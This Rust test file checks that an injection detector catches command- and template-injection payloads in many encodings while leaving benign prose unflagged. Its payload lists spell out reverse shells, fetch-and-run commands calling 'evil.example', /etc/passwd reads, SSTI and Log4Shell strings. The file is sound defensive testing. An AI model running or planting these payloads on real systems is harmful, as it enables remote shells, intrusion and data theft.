//! Command and template injection through the public API, in every encoding.
use sluice_detect::{Category, Detector};

/// The encodings an attacker wraps a payload in; the detector must see through each.
fn encodings(payload: &str) -> Vec<(&'static str, String)> {
    let url: String = payload
        .bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect();
    let double_url = url.replace('%', "%25");
    let html: String = payload
        .chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() || c == ' ' {
                c.to_string()
            } else {
                format!("&#{};", c as u32)
            }
        })
        .collect();
    let json_escaped: String = payload
        .chars()
        .map(|c| match c {
            '"' => "\\\"".to_string(),
            '\\' => "\\\\".to_string(),
            c if c.is_ascii_alphanumeric() || c == ' ' => c.to_string(),
            c => format!("\\u{:04x}", c as u32),
        })
        .collect();
    let json = format!("{{\"id\": 7, \"comment\": \"{json_escaped}\"}}");
    let fullwidth: String = payload
        .chars()
        .map(|c| match c {
            'a'..='z' | 'A'..='Z' => char::from_u32(c as u32 - 0x21 + 0xFF01).unwrap_or(c),
            c => c,
        })
        .collect();
    let zero_width: String = payload
        .split(' ')
        .map(|w| {
            let mut out = String::new();
            for (i, c) in w.chars().enumerate() {
                if i == 2 && c.is_alphabetic() {
                    out.push('\u{200B}');
                }
                out.push(c);
            }
            out
        })
        .collect::<Vec<_>>()
        .join(" ");
    vec![
        ("plain", payload.to_string()),
        ("url", url),
        ("double-url", double_url),
        ("html", html),
        ("json", json),
        ("fullwidth", fullwidth),
        ("zero-width", zero_width),
    ]
}

fn rule_ids(detector: &Detector, input: &str, category: Category) -> Vec<String> {
    detector
        .scan(input.as_bytes())
        .findings
        .iter()
        .filter(|f| f.category == category)
        .map(|f| f.rule_id.to_string())
        .collect()
}

/// Asserts every payload is found in every encoding.
fn assert_found_everywhere(category: Category, payloads: &[&str]) {
    let detector = Detector::new();
    let mut missed = Vec::new();
    for p in payloads {
        for (how, input) in encodings(p) {
            if rule_ids(&detector, &input, category).is_empty() {
                missed.push(format!("{how}: {p:?} as {input:?}"));
            }
        }
    }
    assert!(
        missed.is_empty(),
        "missed {} of them:\n{}",
        missed.len(),
        missed.join("\n")
    );
}

/// Asserts no benign text yields a finding of `category`.
fn assert_clean(category: Category, texts: &[&str]) {
    let detector = Detector::new();
    let flagged: Vec<String> = texts
        .iter()
        .filter_map(|t| {
            let ids = rule_ids(&detector, t, category);
            (!ids.is_empty()).then(|| format!("{t:?}: {ids:?}"))
        })
        .collect();
    assert!(
        flagged.is_empty(),
        "false positives:\n{}",
        flagged.join("\n")
    );
}

#[test]
fn shell_separators_and_substitution() {
    assert_found_everywhere(
        Category::Cmdi,
        &[
            "; cat /etc/passwd",
            "| id",
            "&& whoami",
            "|| ping -c 10 127.0.0.1",
            "127.0.0.1; ls -la",
            "; sleep 10",
            "$(whoami)",
            "`id`",
            "& dir c:\\",
            "| type C:\\Windows\\win.ini",
            "& net user",
            "; /bin/bash -c \"id\"",
        ],
    );
}

#[test]
fn shell_evasions() {
    assert_found_everywhere(
        Category::Cmdi,
        &[
            "a; u''name -a",
            ";c'a't /etc/passwd",
            ";w\"h\"oami",
            "; w\\ho\\am\\i",
            ";{cat,/etc/passwd}",
            ";cat${IFS}/etc/passwd",
            ";cat$IFS$9/etc/passwd",
            "/???/c?t /???/p??s??",
            "host=x;c$!at /et$!c/pas$!swd",
        ],
    );
}

#[test]
fn reverse_shells_and_windows() {
    assert_found_everywhere(
        Category::Cmdi,
        &[
            "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "| nc -e /bin/sh 10.0.0.1 4444",
            "; python3 -c 'import socket,subprocess,os;s=socket.socket()'",
            "127.0.0.1 && curl http://evil.example/x.sh | sh",
            "|| wget -qO- http://evil.example/m | bash",
            "& powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A",
            "& cmd /c whoami",
        ],
    );
}

#[test]
fn template_injection_and_log4shell() {
    assert_found_everywhere(
        Category::Cmdi,
        &[
            "{{7*7}}",
            "${7*7}",
            "#{7*7}",
            "<%= 7*7 %>",
            "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "${jndi:ldap://evil.example/a}",
            "${${lower:j}ndi:ldap://evil.example/a}",
        ],
    );
}

#[test]
fn rule_ids_are_specific() {
    let d = Detector::new();
    assert!(
        rule_ids(&d, ";{cat,/etc/passwd}", Category::Cmdi).contains(&"cmdi-evasion".to_string())
    );
    assert!(rule_ids(&d, "$(whoami)", Category::Cmdi).contains(&"cmdi-subshell".to_string()));
    assert!(rule_ids(&d, "{{7*7}}", Category::Cmdi).contains(&"cmdi-ssti".to_string()));
    assert!(
        rule_ids(
            &d,
            "${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}",
            Category::Cmdi
        )
        .contains(&"cmdi-jndi".to_string())
    );
}

#[test]
fn prose_about_shells_is_clean() {
    assert_clean(
        Category::Cmdi,
        &[
            "Tom & Jerry",
            "rock & roll; then we left",
            "use `ls` to list files",
            "Run `ls -la` to see hidden files.",
            "$5 or $10",
            "C:\\Users\\me\\Documents",
            "cat videos | funny",
            "Cats & dogs; fish & chips; salt & pepper.",
            "My cat is called Bash and my dog is called Curl.",
            "Sleep is important; so is exercise.",
            "Prefer $(command) over backticks in new scripts, it nests better.",
            "Pipe the output through grep and sort | uniq -c for counts.",
            "Please don't shell out to `sh -c` with user input; use Command::new with args.",
            "{{ name }} is replaced by the template engine with the user's name.",
            "Total = ${price} * ${quantity}",
            "| id | name | email |\n|----|------|-------|",
            "{\"id\": 5, \"type\": \"dir\", \"hostname\": \"web-1\"}",
            "GET /users/{id} returns the user",
            "Q&A session at 3pm; AT&T customer service",
            "x < y && y > z",
            "Why not `unwrap_or_default()` here?",
            "He said: curl up with a book; sleep well",
        ],
    );
}
